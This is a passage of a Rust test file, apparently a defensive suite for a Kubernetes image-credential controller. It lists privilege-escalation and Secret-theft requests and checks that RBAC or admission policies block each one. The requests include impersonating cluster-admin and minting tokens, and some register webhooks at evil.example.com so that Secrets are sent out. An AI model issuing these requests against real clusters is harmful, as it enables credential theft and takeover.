//! What an intruder who has the controller's token would try. Each attack names the fence that stops it, and is proved
//! to be one: where that fence is taken away, it succeeds.

use k8s_openapi::api::core::v1::{Secret, ServiceAccount};
use kube::Api;
use kube::api::{Patch, PatchParams};
use serde_json::{Value, json};

use crate::caller::{Body, Call, Caller};
use crate::harness::{CONTROLLER, Lab, NAMESPACE, SECRET, root, spec};

/// What refuses an attack.
#[derive(Clone, Debug)]
enum Fence {
    /// No rule grants it.
    Rbac,
    /// This policy denies it, in these words.
    Policy(&'static str, &'static str),
}

struct Attack {
    what: &'static str,
    call: Call,
    fence: Fence,
}

const SECRETS: &str = "acr-credential-secrets";
const ACCOUNTS: &str = "acr-credential-serviceaccounts";
const BINDINGS: &str = "acr-credential-bindings";
const EVENTS: &str = "acr-credential-events";
const OBJECTS: &str = "acr-credential-objects";
const WEBHOOK: &str = "acr-credential-webhook";

fn attack(what: &'static str, fence: Fence, method: &'static str, path: &str, body: Body) -> Attack {
    Attack { what, call: Call::new(method, path, body), fence }
}

fn rbac(what: &'static str, method: &'static str, path: &str, body: Body) -> Attack {
    attack(what, Fence::Rbac, method, path, body)
}

fn ours(namespace: &str) -> String {
    format!("/api/v1/namespaces/{namespace}/secrets/{SECRET}")
}

/// A Secret as the controller would make it, with something changed.
fn secret(name: &str, change: Value) -> Value {
    let mut object = json!({
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": { "name": name, "labels": { "app.kubernetes.io/managed-by": CONTROLLER } },
        "type": "kubernetes.io/dockerconfigjson",
        "data": { ".dockerconfigjson": "e30=" },
    });
    merge(&mut object, change);
    object
}

/// A JSON merge patch.
fn merge(target: &mut Value, change: Value) {
    let Value::Object(change) = change else {
        *target = change;
        return;
    };
    for (key, value) in change {
        merge(&mut target[key], value);
    }
}

fn pod(volumes: Value) -> Value {
    json!({
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": { "name": "spy" },
        "spec": {
            "containers": [{ "name": "c", "image": "i", "securityContext": {
                "allowPrivilegeEscalation": false, "capabilities": { "drop": ["ALL"] },
                "runAsNonRoot": true, "seccompProfile": { "type": "RuntimeDefault" } } }],
            "volumes": volumes,
        },
    })
}

/// Reading other Secrets, by every way that a list or a name allows.
fn reads() -> Vec<Attack> {
    let get = |what, path: &str| rbac(what, "GET", path, Body::None);
    vec![
        get("list every Secret", "/api/v1/secrets"),
        get("list every Secret of kube-system", "/api/v1/namespaces/kube-system/secrets"),
        get("list every Secret of its own namespace", "/api/v1/namespaces/acr-credential-system/secrets"),
        get("watch every Secret", "/api/v1/secrets?watch=true&timeoutSeconds=1"),
        get("list Secrets by label", "/api/v1/secrets?labelSelector=a%3Db"),
        get(
            "list Secrets by type",
            "/api/v1/secrets?fieldSelector=type%3Dkubernetes.io%2Fservice-account-token",
        ),
        get(
            "list all Secrets but ours",
            &format!("/api/v1/secrets?fieldSelector=metadata.name%21%3D{SECRET}"),
        ),
        get("list Secrets of another name", "/api/v1/secrets?fieldSelector=metadata.name%3Dother"),
        get("read a tenant's Secret", "/api/v1/namespaces/victim/secrets/other"),
        get("read a Secret of kube-system", "/api/v1/namespaces/kube-system/secrets/bound"),
        get("read a key pair that nobody listed", "/api/v1/namespaces/acr-credential-system/secrets/other"),
        get("read another ConfigMap", "/api/v1/namespaces/kube-system/configmaps/kube-root-ca.crt"),
        get("list the Pods and their environment", "/api/v1/pods"),
        get("reach a node by proxy", "/api/v1/nodes/n/proxy/pods"),
        get("run a command in a Pod", "/api/v1/namespaces/victim/pods/spy/exec?command=sh"),
    ]
}

/// Becoming somebody else.
fn identities() -> Vec<Attack> {
    let token = |what, account: &str| {
        let body = json!({ "apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {} });
        rbac(what, "POST", &format!("/api/v1/namespaces/{account}/token"), Body::Json(body))
    };
    let impersonate = |what, headers: &[(&'static str, &'static str)]| {
        let mut attack = rbac(what, "GET", "/api/v1/secrets", Body::None);
        attack.call.headers = headers.to_vec();
        attack
    };
    let role = |kind: &str, name: &str, rest: Value| {
        let mut object = json!({ "apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind,
            "metadata": { "name": name } });
        merge(&mut object, rest);
        Body::Json(object)
    };
    let me = json!([{ "kind": "ServiceAccount", "name": CONTROLLER, "namespace": NAMESPACE }]);
    let admin =
        json!({ "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin" });
    let all = json!({ "rules": [{ "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"] }] });
    let base = "/apis/rbac.authorization.k8s.io/v1";
    let request = json!({ "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
        "metadata": { "name": "evil" }, "spec": { "signerName": "kubernetes.io/kube-apiserver-client",
            "request": CERTIFICATE_REQUEST, "usages": ["client auth"] } });
    vec![
        token("ask for a token of a tenant's account", "victim/serviceaccounts/default"),
        token("ask for a token of a system account", "kube-system/serviceaccounts/default"),
        token(
            "ask for a longer token of its own",
            "acr-credential-system/serviceaccounts/acr-credential-controller",
        ),
        impersonate(
            "impersonate an administrator",
            &[("Impersonate-User", "admin"), ("Impersonate-Group", "system:masters")],
        ),
        impersonate(
            "impersonate a controller",
            &[
                ("Impersonate-User", "system:serviceaccount:kube-system:generic-garbage-collector"),
                ("Impersonate-Group", "system:masters"),
            ],
        ),
        rbac(
            "bind itself to cluster-admin",
            "POST",
            &format!("{base}/clusterrolebindings"),
            role("ClusterRoleBinding", "evil", json!({ "subjects": me, "roleRef": admin })),
        ),
        rbac(
            "bind itself to cluster-admin in a namespace",
            "POST",
            &format!("{base}/namespaces/victim/rolebindings"),
            role("RoleBinding", "evil", json!({ "subjects": me, "roleRef": admin })),
        ),
        rbac(
            "widen its own role",
            "PATCH",
            &format!("{base}/clusterroles/acr-credential-controller"),
            Body::Merge(all.clone()),
        ),
        rbac("make a role", "POST", &format!("{base}/clusterroles"), role("ClusterRole", "evil", all)),
        rbac(
            "request a client certificate",
            "POST",
            "/apis/certificates.k8s.io/v1/certificatesigningrequests",
            Body::Json(request),
        ),
        rbac(
            "run a Pod that mounts a tenant's Secret",
            "POST",
            "/api/v1/namespaces/victim/pods",
            Body::Json(pod(json!([{ "name": "v", "secret": { "secretName": "other" } }]))),
        ),
        rbac(
            "run a Pod in its own namespace",
            "POST",
            "/api/v1/namespaces/acr-credential-system/pods",
            Body::Json(pod(json!([]))),
        ),
    ]
}

/// A request for the user `evil`, made once with openssl.
const CERTIFICATE_REQUEST: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ1pqQ0NBVTRDQVFBd0lURVFNQTRHQTFVRUNnd0haWGhoYlhCc1pURU5NQXNHQTFVRUF3d0VaWFpwYkRDQwpBU0l3RFFZSktvWklodmNOQVFFQkJRQURnZ0VQQURDQ0FRb0NnZ0VCQU04ZzRqdXptRVZNbVlac3dHcGxGQThZCjBTak9HZ3hLb0Z5SkdobkR3elhFZ0hldUlsWjc3SWxWNmgrR3pGSUp1ck9VYmNtZU1JemxNL0NyZXgvZkJreTMKVisyNS9QblRQbWF1b0hEMEI1bkppOGEvV3AyYkV0L1R1UUwrYktJUVBQSDdJRmZUTlYySjVpeXYrYTl1ZEFLegpiVVZubmZEK0hvdXRnRlR5T1dUOVZGSGdnMWhlaDRwN29vdXJBUUZhQXRyaWZVUkdRdDZiaWNvUUNTNTAyZ1l0ClFUUUR1ay9NaGd2cU1ubWgrL3FuM3NtY3pFQ0IyYlUxVWVJclo5V0V5dUx2Rlc2K0NtcU03TmYzanJRcFdodHoKTjFyS2U3ZlJLZGxBWGJzalVCVjA5UmhBUmMzSEc3SVNjYzFXZ2xQdExCN3o5TG02dHM0NUZMcjM3VmxMNStrQwpBd0VBQWFBQU1BMEdDU3FHU0liM0RRRUJDd1VBQTRJQkFRQlpGY3hFSDU1dVlLMEYxbU92bm1VeFg3L282STZJCndvU2dHNmNkKzlXalZKSDVSejFvaWNWR2VrRGovQkg4OXFuM1ZzajR1bWZsT3gvQW9LRTNIV3d3MGxJZWp1UnYKNmNjb3BVbkhyZkhuYlV2SXJOZWFJWVdVY0RTcWNQc09KM2tLakxPYWI1M2JybXBSL0tQTEdZSUpRT1NmbEtuSgp6UitYQ2RKNFhQR1FzcTFueXNCZTgxclplYWJNRlVxQ0ZtNmhZb3AvN3UwZ0IvZjdMSjMyT2R4dCtCb2thSTBoCjFDQ3lIbGxhNTZpek5nL1FoNWFkaFBHbG1rSWpnRUZ2NU53OHNlaWZUS1RtS2pJWElhV1hBR2Z5cVNlc252MlcKWFVuNHBOMWJ5RWZPdmhRcHByc21zTmE3VzBPSVRWa1kvbVBtTUdZMldIenkxT3BMeE9lcGN0bzAKLS0tLS1FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg==";

/// Taking down what fences it, or putting itself where every object passes.
fn control() -> Vec<Attack> {
    let base = "/apis/admissionregistration.k8s.io/v1";
    let hook = json!({ "name": "a.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
        "clientConfig": { "url": "https://evil.example.com/" },
        "rules": [{ "apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"], "operations": ["CREATE"] }] });
    let validating = json!({ "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration", "metadata": { "name": "evil" }, "webhooks": [hook] });
    let conversion = json!({ "spec": { "conversion": { "strategy": "Webhook", "webhook": {
        "conversionReviewVersions": ["v1"], "clientConfig": { "url": "https://evil.example.com/" } } } } });
    let service = json!({ "apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
        "metadata": { "name": "v1.evil.example.com" }, "spec": { "group": "evil.example.com", "version": "v1",
            "groupPriorityMinimum": 1, "versionPriority": 1, "insecureSkipTLSVerify": true,
            "service": { "namespace": "victim", "name": "evil" } } });
    let lenient = json!({ "spec": { "failurePolicy": "Ignore", "matchConditions": [] } });
    let label = json!({ "metadata": { "labels": { "pod-security.kubernetes.io/enforce": "privileged" } } });
    let aim = json!({ "data": { "watch-namespace": "all" } });
    let take_over = json!({ "spec": { "holderIdentity": "evil" } });
    vec![
        rbac(
            "delete a policy",
            "DELETE",
            &format!("{base}/validatingadmissionpolicies/{SECRETS}"),
            Body::None,
        ),
        rbac(
            "loosen a policy",
            "PATCH",
            &format!("{base}/validatingadmissionpolicies/{SECRETS}"),
            Body::Merge(lenient),
        ),
        rbac(
            "unbind a policy",
            "DELETE",
            &format!("{base}/validatingadmissionpolicybindings/{SECRETS}"),
            Body::None,
        ),
        rbac(
            "have every Secret sent to itself",
            "POST",
            &format!("{base}/validatingwebhookconfigurations"),
            Body::Json(validating),
        ),
        rbac(
            "convert bindings by a webhook",
            "PATCH",
            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/acrcredentialbindings.acrcredential.dev",
            Body::Merge(conversion),
        ),
        rbac(
            "delete the definition of bindings",
            "DELETE",
            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/acrcredentialbindings.acrcredential.dev",
            Body::None,
        ),
        rbac(
            "serve an API of its own",
            "POST",
            "/apis/apiregistration.k8s.io/v1/apiservices",
            Body::Json(service),
        ),
        rbac("lower a namespace's security", "PATCH", "/api/v1/namespaces/victim", Body::Merge(label)),
        rbac("delete a namespace", "DELETE", "/api/v1/namespaces/victim", Body::None),
        rbac(
            "edit the ConfigMap that says what is minted",
            "PATCH",
            "/api/v1/namespaces/kube-system/configmaps/acr-configuration",
            Body::Merge(aim),
        ),
        rbac(
            "take another controller's Lease",
            "PATCH",
            "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/other",
            Body::Merge(take_over),
        ),
    ]
}

/// Writing Secrets that RBAC does not name.
fn other_secrets() -> Vec<Attack> {
    let all = "/api/v1/namespaces/victim/secrets";
    let by_name = format!("{all}?fieldSelector=metadata.name%3D{SECRET}");
    let generated = json!({ "metadata": { "name": null, "generateName": SECRET } });
    vec![
        rbac(
            "post a Secret of our name",
            "POST",
            "/api/v1/namespaces/elsewhere/secrets",
            Body::Json(secret(SECRET, json!({}))),
        ),
        rbac("post a Secret with a generated name", "POST", all, Body::Json(secret(SECRET, generated))),
        rbac(
            "apply a Secret of another name",
            "PATCH",
            &format!("{all}/evil"),
            Body::Apply(secret("evil", json!({}))),
        ),
        rbac("replace our Secret", "PUT", &ours("victim"), Body::Json(secret(SECRET, json!({})))),
        rbac(
            "patch a tenant's Secret",
            "PATCH",
            &format!("{all}/other"),
            Body::Merge(json!({ "data": null })),
        ),
        rbac("delete a tenant's Secret", "DELETE", &format!("{all}/other"), Body::None),
        rbac("delete all Secrets of a namespace", "DELETE", all, Body::None),
        rbac("delete all Secrets of our name", "DELETE", &by_name, Body::None),
        rbac(
            "delete the token cache, to make it anew with another type",
            "DELETE",
            "/api/v1/namespaces/acr-credential-system/secrets/acr-credential-cache",
            Body::None,
        ),
        rbac(
            "make a key pair in a tenant's namespace",
            "PATCH",
            &format!("{all}/acr-configuration-0"),
            Body::Apply(secret("acr-configuration-0", json!({}))),
        ),
        rbac(
            "make a cache in a tenant's namespace",
            "PATCH",
            &format!("{all}/acr-credential-cache"),
            Body::Apply(secret("acr-credential-cache", json!({}))),
        ),
    ]
}

/// Making a Secret of our name that is none of ours.
fn made_secrets() -> Vec<Attack> {
    let make = |what, words, change| {
        let fence = Fence::Policy(SECRETS, words);
        attack(what, fence, "PATCH", &ours("elsewhere"), Body::Apply(secret(SECRET, change)))
    };
    let owner = |blocks: bool| {
        json!({ "metadata": { "ownerReferences": [{ "apiVersion": "v1", "kind": "ConfigMap", "name": "x",
            "uid": "00000000-0000-0000-0000-000000000001", "blockOwnerDeletion": blocks }] } })
    };
    let token = json!({ "type": "kubernetes.io/service-account-token", "data": { ".dockerconfigjson": null },
        "metadata": { "annotations": { "kubernetes.io/service-account.name": "default" } } });
    let mut made = vec![
        make("have the cluster fill a Secret with a token", "have the type", token.clone()),
        make("make an opaque Secret", "have the type", json!({ "type": "Opaque" })),
        make(
            "make a bootstrap token",
            "have the type",
            json!({ "type": "bootstrap.kubernetes.io/token",
            "data": { "token-id": "YWJjZGVm", "token-secret": "MDEyMzQ1Njc4OWFiY2RlZg==" } }),
        ),
        make("make a Secret without our label", "carry its label", json!({ "metadata": { "labels": null } })),
        make(
            "make a Secret with another's label",
            "carry its label",
            json!({ "metadata": { "labels": { "app.kubernetes.io/managed-by": "Helm" } } }),
        ),
        make("add a key", "and nothing else", json!({ "data": { "more": "eA==" } })),
        make("add a key as text", "and nothing else", json!({ "stringData": { "more": "x" } })),
        make(
            "add a finalizer",
            "no finalizers",
            json!({ "metadata": { "finalizers": ["a.example.com/b"] } }),
        ),
        make("add an owner", "no owners", owner(false)),
        make("add an owner that it would block", "no owners", owner(true)),
        make("make a Secret that cannot be refreshed", "can be refreshed", json!({ "immutable": true })),
        make(
            "have a replicator copy another Secret into ours",
            "others' annotations",
            json!({ "metadata": { "annotations": { "replicator.v1.mittwald.de/replicate-from": "kube-system/bound" } } }),
        ),
        make(
            "have a reflector copy another Secret into ours",
            "others' annotations",
            json!({ "metadata": { "annotations": { "reflector.v1.k8s.emberstack.com/reflects": "kube-system/bound" } } }),
        ),
        make(
            "have ours copied elsewhere by label",
            "others' labels",
            json!({ "metadata": { "labels": { "kubed.appscode.com/sync": "" } } }),
        ),
        make(
            "pass for another tool's Secret",
            "others' labels",
            json!({ "metadata": { "labels": { "argocd.argoproj.io/secret-type": "repository" } } }),
        ),
    ];
    let fence = Fence::Policy(SECRETS, "have the type");
    let key_pair = "/api/v1/namespaces/acr-credential-system/secrets/acr-configuration-7";
    made.push(attack(
        "have the cluster fill a key pair with a token",
        fence,
        "PATCH",
        key_pair,
        Body::Apply(secret("acr-configuration-7", token)),
    ));
    made
}

/// Changing Secrets that stand.
fn standing_secrets() -> Vec<Attack> {
    let patch =
        |what, words, body| attack(what, Fence::Policy(SECRETS, words), "PATCH", &ours("victim"), body);
    let home = |what, words, name: &str, body| {
        let path = format!("/api/v1/namespaces/acr-credential-system/secrets/{name}");
        attack(what, Fence::Policy(SECRETS, words), "PATCH", &path, body)
    };
    let blocked = || json!({ "metadata": { "finalizers": ["a.example.com/b"] } });
    vec![
        patch("patch a finalizer in", "no finalizers", Body::Merge(blocked())),
        patch("patch a finalizer in, strategically", "no finalizers", Body::Strategic(blocked())),
        patch(
            "patch a key in",
            "and nothing else",
            Body::JsonPatch(json!([
            { "op": "add", "path": "/data/more", "value": "eA==" }])),
        ),
        patch("freeze ours", "can be refreshed", Body::Merge(json!({ "immutable": true }))),
        patch(
            "take our label off",
            "carry its label",
            Body::Merge(json!({ "metadata": { "labels": null } })),
        ),
        patch(
            "take a user's label off",
            "others' labels",
            Body::Merge(json!({ "metadata": { "labels": { "team": null } } })),
        ),
        patch(
            "change a user's annotation",
            "others' annotations",
            Body::Merge(json!({ "metadata": { "annotations": { "note": "x" } } })),
        ),
        patch(
            "patch a copy order in",
            "others' annotations",
            Body::Merge(
                json!({ "metadata": { "annotations": { "replicator.v1.mittwald.de/replicate-from": "a/b" } } }),
            ),
        ),
        attack(
            "delete a user's own Secret of our name",
            Fence::Policy(SECRETS, "only the Secret that it made"),
            "DELETE",
            &ours("owner"),
            Body::None,
        ),
        home(
            "block its namespace by the cache",
            "no finalizers",
            "acr-credential-cache",
            Body::Merge(blocked()),
        ),
        home(
            "keep more in the cache",
            "and nothing else",
            "acr-credential-cache",
            Body::Merge(json!({ "data": { "more": "eA==" } })),
        ),
        home(
            "keep more in a key pair",
            "and nothing else",
            "acr-configuration-0",
            Body::Apply(secret("acr-configuration-0", json!({ "type": "Opaque" }))),
        ),
    ]
}

/// What more RBAC than ours would open, if somebody gave it: all Secrets of one namespace.
fn if_rbac_were_wide() -> Vec<Attack> {
    let all = "/api/v1/namespaces/wide/secrets";
    let deny = |what, words, method, path: &str, body| {
        attack(what, Fence::Policy(SECRETS, words), method, path, body)
    };
    vec![
        deny(
            "post another Secret where RBAC lets it",
            "one Secret name",
            "POST",
            all,
            Body::Json(secret("evil", json!({}))),
        ),
        deny(
            "post a Secret with a generated name where RBAC lets it",
            "one Secret name",
            "POST",
            all,
            Body::Json(secret("", json!({ "metadata": { "name": null, "generateName": SECRET } }))),
        ),
        deny(
            "replace another Secret where RBAC lets it",
            "one Secret name",
            "PUT",
            &format!("{all}/other"),
            Body::Json(secret("other", json!({ "type": "Opaque" }))),
        ),
        deny("delete all Secrets where RBAC lets it", "one Secret name", "DELETE", all, Body::None),
        deny(
            "delete all Secrets of one name where RBAC lets it",
            "one Secret name",
            "DELETE",
            &format!("{all}?fieldSelector=metadata.name%3Dother"),
            Body::None,
        ),
    ]
}

fn accounts() -> Vec<Attack> {
    const RICH: &str = "/api/v1/namespaces/victim/serviceaccounts/rich";
    const LIST: &str = "its own entry of imagePullSecrets only";
    const METADATA: &str = "the metadata of ServiceAccounts alone";
    const REST: &str = "the secrets and the token of ServiceAccounts alone";
    let deny = |what, words, body| attack(what, Fence::Policy(ACCOUNTS, words), "PATCH", RICH, body);
    let list = |names: &[&str]| {
        let list: Vec<Value> = names.iter().map(|name| json!({ "name": name })).collect();
        Body::Merge(json!({ "imagePullSecrets": list }))
    };
    let annotate = |key: &str| Body::Merge(json!({ "metadata": { "annotations": { key: "admin" } } }));
    let account =
        |name: &str| json!({ "apiVersion": "v1", "kind": "ServiceAccount", "metadata": { "name": name } });
    let seize = json!({ "apiVersion": "v1", "kind": "ServiceAccount", "metadata": { "name": "rich" },
        "imagePullSecrets": [{ "name": SECRET }] });
    let owner = json!({ "metadata": { "ownerReferences": [{ "apiVersion": "v1", "kind": "ConfigMap", "name": "x",
        "uid": "00000000-0000-0000-0000-000000000001" }] } });
    let path = "/api/v1/namespaces/victim/serviceaccounts";
    vec![
        rbac("make a ServiceAccount", "POST", path, Body::Json(account("evil"))),
        rbac(
            "make a ServiceAccount by apply",
            "PATCH",
            &format!("{path}/evil"),
            Body::Apply(account("evil")),
        ),
        rbac("replace a ServiceAccount", "PUT", RICH, Body::Json(account("rich"))),
        rbac("delete a ServiceAccount", "DELETE", RICH, Body::None),
        rbac("delete all ServiceAccounts", "DELETE", path, Body::None),
        deny("add another's entry", LIST, list(&["a", "b", SECRET, "evil"])),
        deny("take another's entry", LIST, list(&["a", SECRET])),
        deny("take the whole list", LIST, Body::Merge(json!({ "imagePullSecrets": null }))),
        deny("turn others' entries round", LIST, list(&["b", "a", SECRET])),
        deny("rename another's entry", LIST, list(&["a", "evil", SECRET])),
        deny(
            "put an entry before all others",
            LIST,
            Body::JsonPatch(json!([
            { "op": "add", "path": "/imagePullSecrets/0", "value": { "name": "evil" } }])),
        ),
        deny("seize the list by a forced apply", LIST, Body::Apply(seize)),
        deny("add our entry twice", "imagePullSecrets once", list(&["a", "b", SECRET, SECRET])),
        deny(
            "label a ServiceAccount",
            METADATA,
            Body::Merge(json!({ "metadata": { "labels": { "a": "b" } } })),
        ),
        deny(
            "take a ServiceAccount's label",
            METADATA,
            Body::Merge(json!({ "metadata": { "labels": null } })),
        ),
        deny(
            "give a ServiceAccount a cloud role",
            METADATA,
            annotate("pod-identity.alibabacloud.com/role-name"),
        ),
        deny("give a ServiceAccount another cloud's role", METADATA, annotate("eks.amazonaws.com/role-arn")),
        deny("opt a ServiceAccount out", METADATA, annotate("acrcredential.dev/skip")),
        deny(
            "block a ServiceAccount's namespace",
            METADATA,
            Body::Merge(json!({ "metadata": { "finalizers": ["a.example.com/b"] } })),
        ),
        deny("have a ServiceAccount garbage-collected", METADATA, Body::Merge(owner)),
        deny(
            "let a ServiceAccount mount a Secret",
            REST,
            Body::Merge(json!({ "secrets": [{ "name": "other" }] })),
        ),
        deny(
            "mount the token of a ServiceAccount",
            REST,
            Body::Merge(json!({ "automountServiceAccountToken": true })),
        ),
    ]
}

/// Tokens of the one account for which RBAC grants them.
fn tokens() -> Vec<Attack> {
    const PATH: &str = "/api/v1/namespaces/kube-system/serviceaccounts/aliyun-acr-credential-helper/token";
    let ask = |what, spec: Value| {
        let body = json!({ "apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": spec });
        attack(
            what,
            Fence::Policy(ACCOUNTS, "for the audience sts.aliyuncs.com only"),
            "POST",
            PATH,
            Body::Json(body),
        )
    };
    let cloud = "sts.aliyuncs.com";
    vec![
        ask("ask for a token for the API server", json!({ "expirationSeconds": 3600 })),
        ask(
            "ask for a token for another cloud",
            json!({ "audiences": ["sts.amazonaws.com"], "expirationSeconds": 3600 }),
        ),
        ask(
            "ask for a token for two audiences",
            json!({ "audiences": [cloud, "https://kubernetes.default.svc.cluster.local"], "expirationSeconds": 3600 }),
        ),
        ask("ask for a token of a day", json!({ "audiences": [cloud], "expirationSeconds": 86400 })),
        ask(
            "ask for a token bound to a Secret",
            json!({ "audiences": [cloud], "expirationSeconds": 3600,
                "boundObjectRef": { "apiVersion": "v1", "kind": "Secret", "name": "bound" } }),
        ),
    ]
}

/// Aiming the cloud identity, or keeping things from going.
fn bindings() -> Vec<Attack> {
    const ALL: &str = "/apis/acrcredential.dev/v1alpha1/acrcredentialbindings";
    const SPEC: &str = "the spec of no binding";
    const METADATA: &str = "the labels and annotations of bindings alone";
    const HOLD: &str = "its own finalizer";
    let victim = format!("{ALL}/victim");
    let deny = |what, words, name: &str, body| {
        attack(what, Fence::Policy(BINDINGS, words), "PATCH", &format!("{ALL}/{name}"), body)
    };
    let binding = |name: &str, metadata: Value| {
        let mut object = json!({ "apiVersion": "acrcredential.dev/v1alpha1", "kind": "AcrCredentialBinding",
            "metadata": { "name": name }, "spec": spec(&["*"]) });
        merge(&mut object["metadata"], metadata);
        object
    };
    let spec_of = |spec: Value| Body::Merge(json!({ "spec": spec }));
    let annotate = |key: &str| Body::Merge(json!({ "metadata": { "annotations": { key: "true" } } }));
    vec![
        rbac("make a binding", "POST", ALL, Body::Json(binding("evil", json!({})))),
        rbac(
            "make a binding by apply",
            "PATCH",
            &format!("{ALL}/evil"),
            Body::Apply(binding("evil", json!({}))),
        ),
        rbac("replace a binding", "PUT", &victim, Body::Json(binding("victim", json!({})))),
        rbac("delete a binding", "DELETE", &victim, Body::None),
        rbac("delete all bindings", "DELETE", ALL, Body::None),
        deny("widen a binding", SPEC, "victim", spec_of(json!({ "watchNamespaces": { "names": ["*"] } }))),
        deny(
            "have a binding take another role",
            SPEC,
            "victim",
            spec_of(json!({ "registries": [
            { "instanceId": "cri-demo0001", "assumeRoleARN": "acs:ram::2:role/acr-pull" }] })),
        ),
        deny(
            "send a binding's domains elsewhere",
            SPEC,
            "victim",
            spec_of(json!({ "registries": [
            { "instanceId": "cri-demo0001", "domains": ["evil.example.com"] }] })),
        ),
        deny("suspend a binding", SPEC, "victim", spec_of(json!({ "suspend": true }))),
        deny("seize a binding by a forced apply", SPEC, "victim", Body::Apply(binding("victim", json!({})))),
        deny(
            "edit a user's own binding of the converted one's name",
            SPEC,
            "acr-configuration",
            spec_of(json!({ "suspend": false })),
        ),
        attack(
            "delete a user's own binding of the converted one's name",
            Fence::Policy(BINDINGS, "makes and deletes no binding"),
            "DELETE",
            &format!("{ALL}/acr-configuration"),
            Body::None,
        ),
        deny(
            "pass a user's binding off as converted",
            METADATA,
            "acr-configuration",
            Body::Merge(json!({ "metadata": { "labels": { "acrcredential.dev/converted": "true" } } })),
        ),
        deny("have a binding adopt others' Secrets", METADATA, "victim", annotate("acrcredential.dev/adopt")),
        deny(
            "have credentials minted over and over",
            METADATA,
            "victim",
            annotate("acrcredential.dev/refresh-at"),
        ),
        deny(
            "label a binding",
            METADATA,
            "victim",
            Body::Merge(json!({ "metadata": { "labels": { "a": "b" } } })),
        ),
        deny(
            "block a binding",
            HOLD,
            "victim",
            Body::JsonPatch(json!([
            { "op": "add", "path": "/metadata/finalizers/-", "value": "a.example.com/b" }])),
        ),
        deny(
            "take another's finalizer",
            HOLD,
            "victim",
            Body::Merge(json!({ "metadata": { "finalizers": null } })),
        ),
        deny(
            "have a binding garbage-collected",
            HOLD,
            "victim",
            Body::Merge(json!({ "metadata": {
            "ownerReferences": [{ "apiVersion": "v1", "kind": "Node", "name": "x",
                "uid": "00000000-0000-0000-0000-000000000001" }] } })),
        ),
    ]
}

/// What else may be written by name.
fn others() -> Vec<Attack> {
    let event = |change: Value| {
        let mut object = json!({ "apiVersion": "events.k8s.io/v1", "kind": "Event",
            "metadata": { "name": "evil", "namespace": "victim" }, "eventTime": "2026-01-01T00:00:00.000000Z",
            "reportingController": CONTROLLER, "reportingInstance": CONTROLLER, "action": "A", "reason": "R",
            "type": "Normal", "regarding": { "kind": "Pod", "name": "p", "namespace": "victim" } });
        merge(&mut object, change);
        Body::Json(object)
    };
    let blocked = || json!({ "metadata": { "finalizers": ["a.example.com/b"] } });
    let events = "/apis/events.k8s.io/v1/namespaces/victim/events";
    let lease =
        "/apis/coordination.k8s.io/v1/namespaces/acr-credential-system/leases/acr-credential-controller";
    let map = |name: &str, change: Value| {
        let mut object = json!({ "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": name } });
        merge(&mut object, change);
        Body::Apply(object)
    };
    let maps = "/api/v1/namespaces/acr-credential-system/configmaps";
    let deny = |what, policy, words, method, path: &str, body| {
        attack(what, Fence::Policy(policy, words), method, path, body)
    };
    vec![
        rbac("delete the traces in Events", "DELETE", events, Body::None),
        deny(
            "forge another's Event",
            EVENTS,
            "in its own name only",
            "POST",
            events,
            event(json!({ "reportingController": "kubelet" })),
        ),
        deny(
            "rewrite another's Event",
            EVENTS,
            "in its own name only",
            "PATCH",
            &format!("{events}/theirs"),
            Body::Merge(json!({ "metadata": { "annotations": { "a": "b" } } })),
        ),
        deny("block a namespace by an Event", EVENTS, "no finalizers", "POST", events, event(blocked())),
        deny(
            "block its namespace by its Lease",
            OBJECTS,
            "no finalizers",
            "PATCH",
            lease,
            Body::Merge(blocked()),
        ),
        deny(
            "block its namespace by its ConfigMap",
            OBJECTS,
            "no finalizers",
            "PATCH",
            &format!("{maps}/acr-credential-admission"),
            map("acr-credential-admission", blocked()),
        ),
        deny(
            "write another ConfigMap where RBAC lets it",
            OBJECTS,
            "of its own namespace only",
            "PATCH",
            &format!("{maps}/evil"),
            map("evil", json!({})),
        ),
    ]
}

/// The right to write one webhook configuration, used for more.
fn webhooks() -> Vec<Attack> {
    const RULES: &str = "creation and update of ServiceAccounts only";
    const SERVICE: &str = "served by its Service";
    let base = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";
    let hook = |change: Value| {
        let mut hook = json!({ "name": "a.acrcredential.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "clientConfig": { "service": { "namespace": NAMESPACE, "name": "acr-credential-webhook" } },
            "namespaceSelector": { "matchExpressions": [{ "key": "kubernetes.io/metadata.name",
                "operator": "NotIn", "values": ["kube-system", NAMESPACE] }] },
            "rules": [{ "apiGroups": [""], "apiVersions": ["v1"], "resources": ["serviceaccounts"],
                "operations": ["CREATE", "UPDATE"] }] });
        merge(&mut hook, change);
        hook
    };
    let whole = |name: &str, metadata: Value, hooks: Vec<Value>| {
        let mut object = json!({ "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "MutatingWebhookConfiguration", "metadata": { "name": name }, "webhooks": hooks });
        merge(&mut object["metadata"], metadata);
        Body::Apply(object)
    };
    let deny = |what, words, body| {
        attack(what, Fence::Policy(WEBHOOK, words), "PATCH", &format!("{base}/acr-credential-webhook"), body)
    };
    let with = |change: Value| whole("acr-credential-webhook", json!({}), vec![hook(change)]);
    let rules = |group: &str, resource: &str, operation: &str| {
        with(json!({ "rules": [{ "apiGroups": [group], "apiVersions": ["v1"], "resources": [resource],
            "operations": [operation] }] }))
    };
    let service = |namespace: &str, name: &str| {
